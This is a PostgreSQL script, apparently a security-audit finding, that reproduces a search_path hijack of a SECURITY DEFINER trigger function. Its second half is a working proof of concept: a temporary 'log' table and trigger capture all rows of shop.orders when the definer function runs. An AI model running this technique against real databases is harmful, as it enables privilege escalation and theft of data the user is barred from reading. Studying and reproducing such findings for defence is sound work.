-- finding: definer-search-path function shop.note()
SET ROLE shop_owner;
REVOKE ALL ON shop.orders FROM order_users;
CREATE TABLE shop.log (item text);
CREATE FUNCTION shop.note() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
  AS $$ BEGIN INSERT INTO log VALUES (NEW.item); RETURN NEW; END $$;
CREATE TRIGGER note AFTER INSERT ON shop.orders FOR EACH ROW EXECUTE FUNCTION shop.note();
CREATE TABLE shop.staff (name text, member text); INSERT INTO shop.staff VALUES (session_user, 'alice@example.com');
CREATE VIEW shop.mine WITH (security_barrier, check_option = cascaded) AS SELECT item, owner FROM shop.orders WHERE owner = current_user AND owner IN (SELECT member FROM shop.staff LIMIT 9);
GRANT SELECT, INSERT ON shop.mine TO order_users;
RESET ROLE;
-- leak as alice@example.com
CREATE TEMPORARY TABLE taken (item text);
GRANT INSERT ON pg_temp.taken TO PUBLIC;
CREATE FUNCTION pg_temp.take() RETURNS trigger LANGUAGE plpgsql
  AS $$ BEGIN INSERT INTO pg_temp.taken SELECT item FROM shop.orders; RETURN NEW; END $$;
CREATE TEMPORARY TABLE log (item text); GRANT INSERT ON pg_temp.log TO PUBLIC;
CREATE TRIGGER take BEFORE INSERT ON log FOR EACH ROW EXECUTE FUNCTION pg_temp.take();
SET search_path = shop;
INSERT INTO shop.mine VALUES ('bait', 'alice@example.com');
SELECT item FROM pg_temp.taken WHERE item = 'secret';
